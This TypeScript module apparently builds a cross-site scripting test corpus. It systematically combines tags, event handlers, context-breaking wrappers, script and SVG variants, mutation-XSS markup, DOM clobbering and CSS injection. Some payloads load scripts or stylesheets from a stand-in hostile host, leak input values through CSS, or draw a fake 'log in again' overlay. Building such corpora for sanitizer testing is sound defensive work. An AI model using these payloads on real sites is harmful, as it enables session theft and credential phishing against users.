import { hostileSigns, scripts, turn } from './signs.ts';

const { global, host } = hostileSigns;

const tags = [
  'img src=x',
  'svg',
  'body',
  `iframe src=//${host}/frame`,
  'video src=x',
  'audio src=x',
  'input autofocus',
  'details open',
  'marquee',
  'object data=x',
  'embed src=x',
  'select autofocus',
  'textarea autofocus',
  'div contenteditable tabindex=0 autofocus',
  'math',
  'style',
  `link rel=stylesheet href=//${host}/s.css`,
  'button popovertarget=p',
  'custom-element tabindex=0 autofocus',
  'svg><animate attributeName=x',
  'image src=x',
  'isindex type=image src=1',
];

const events = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onstart',
  'onbegin',
  'onmouseover',
  'onclick',
  'onanimationstart',
  'onpointerenter',
  'onbeforeinput',
  'oncopy',
  'onpageshow',
  'onwheel',
  'onscroll',
  'ontransitionend',
  'onbeforetoggle',
  'oncontentvisibilityautostatechange',
];

/** Ways out of where a text may have been put. */
const wrappers: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `">${payload}`,
  (payload) => `'>${payload}<x y='`,
  (payload) => `</textarea>${payload}`,
  (payload) => `--><!-- --!>${payload}`,
  (payload) => `</script>${payload}`,
  (payload) => `</title></style>${payload}`,
  (payload) => `]]>${payload}`,
  (payload) => `Hei, ${payload} apua`,
  (payload) => `<![CDATA[${payload}]]>`,
];

const attributes: readonly ((event: string, script: string) => string)[] = [
  (event, script) => ` ${event}="${script}"`,
  (event, script) => ` ${event}='${script.replaceAll("'", '`')}'`,
  (event, script) => `/${event}=${script.replaceAll(' ', '')}//`,
  (event, script) => `\n${event.toUpperCase()}\n=\n"${script}"`,
  (event, script) => `\t${event}\u00A0="${script}" ${event}="${script}"`,
];

/** Every element with every event, each in three of the ways out. */
export const eventHandlers: readonly string[] = tags.flatMap((tag, t) =>
  events.flatMap((event, e) =>
    [0, 3, 7].map((shift) => {
      const n = t * events.length + e + shift;
      const attribute = turn(attributes, n)(event, turn(scripts, n));
      return turn(wrappers, n)(`<${tag}${attribute}>`);
    }),
  ),
);

const scriptShapes: readonly ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `<ScRiPt>${script}</sCrIpT>`,
  (script) => `<script\n>${script}</script\n>`,
  (script) => `<script/x>${script}</script x>`,
  (script) => `<<script>${script}//<</script>`,
  (script) => `<scr<script>ipt>${script}</scr</script>ipt>`,
  (script) => `<script\u0000>${script}</script>`,
  (script) => `<svg><script>${script}</script></svg>`,
  (script) => `<script src="//${host}/x.js" data-x="${script}"></script>`,
  (script) => `<script type=module>${script}</script>`,
  (script) => `<script type="text/javascript" defer async>${script}</script>`,
  (script) => `<noscript><p title="</noscript><script>${script}</script>">`,
  (script) => `<template shadowrootmode=open><script>${script}</script></template>`,
  (script) => `<iframe srcdoc="<script>${script.replaceAll('"', '&quot;')}</script>"></iframe>`,
];

export const scriptTags: readonly string[] = scriptShapes.flatMap((shape) => scripts.map(shape));

const svgShapes: readonly ((script: string) => string)[] = [
  (script) => `<svg onload="${script}"><circle r=9 /></svg>`,
  (script) => `<svg><a xlink:href="javascript:${script}"><text x=9 y=9>Avaa</text></a></svg>`,
  (script) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${script}</script></svg>#x"/></svg>`,
  (script) => `<svg><set attributeName=href to="javascript:${script}" begin=0s /></svg>`,
  (script) => `<svg><foreignObject><iframe src="javascript:${script}"/></foreignObject></svg>`,
  (script) => `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="${script}"/>`,
  (script) => `<svg><animate onbegin="${script}" attributeName=x dur=1s>`,
  (script) => `<math href="javascript:${script}">X</math>`,
];
export const svg: readonly string[] = svgShapes.flatMap((shape) => scripts.map(shape));

/** Markup that changes its meaning when it is parsed, written out and parsed again. */
const mutations: readonly ((script: string) => string)[] = [
  (script) => `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  (script) => `<svg></p><style><a id="</style><img src=1 onerror=${script}>">`,
  (script) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${script}&gt;">`,
  (script) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${script}>`,
  (script) => `<listing>&lt;img src=x onerror=${script}&gt;</listing>`,
  (script) => `<xmp><p title="</xmp><svg/onload=${script}>"></xmp>`,
  (script) => `<title><a title="</title><img src=x onerror=${script}>">`,
  (script) =>
    `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${script}>">`,
  (script) => `<svg><desc><template><p id="</template></desc></svg><img src=x onerror=${script}>">`,
  (script) => `<table><td><a><table></table></a></td><img src=x onerror=${script}>`,
  (script) => `<img alt="\`\`onerror=${script}" src=x>`,
  (script) => `<a href="&#x0D;javascript&#x3A;${script}">x</a><plaintext>`,
];
export const mutationXss: readonly string[] = mutations.flatMap((shape) => scripts.map(shape));

export const dom: readonly string[] = [
  'body',
  'forms',
  'cookie',
  'getElementById',
  'defaultView',
  'currentScript',
  'documentElement',
  'location',
  'desktop',
  'root',
  '__proto__',
].flatMap((name) => [
  `<form id=${name}><input name=${name}></form>`,
  `<a id=${name} href="//${host}/clobber"></a><a id=${name} name=x></a>`,
  `<iframe name=${name} srcdoc="<a id=y href=//${host}>"></iframe>`,
  `<meta name="${name}" content="${global}">`,
]);

const cssShapes: readonly ((url: string) => string)[] = [
  (url) => `<style>@import '${url}';</style>`,
  (url) => `<style>*{background:url(${url})}</style>`,
  (url) => `<div style="background-image:url('${url}')">x</div>`,
  (url) => `</style><link rel=stylesheet href="${url}">`,
  (url) => `<style>input[value^="a"]{background:url(${url}?a)}</style>`,
  (url) => `<style>@font-face{font-family:x;src:url(${url})}*{font-family:x}</style>`,
  (url) => `color:red;background:url(${url})`,
  (url) => `};*{content:url(${url})}`,
  (url) => `<div style="width:expression(${global}=1);behavior:url(${url})">`,
  (url) =>
    `<x style="position:fixed;inset:0;z-index:2147483647;background:white url(${url})">Kirjaudu uudelleen</x>`,
];
export const css: readonly string[] = cssShapes.flatMap((shape) =>
  [
    `//${host}/c`,
    `https://${host}/c.css`,
    'javascript:1',
    'data:text/css,*{display:none}',
    '\\2f\\2fhostile.invalid',
  ].map(shape),
);
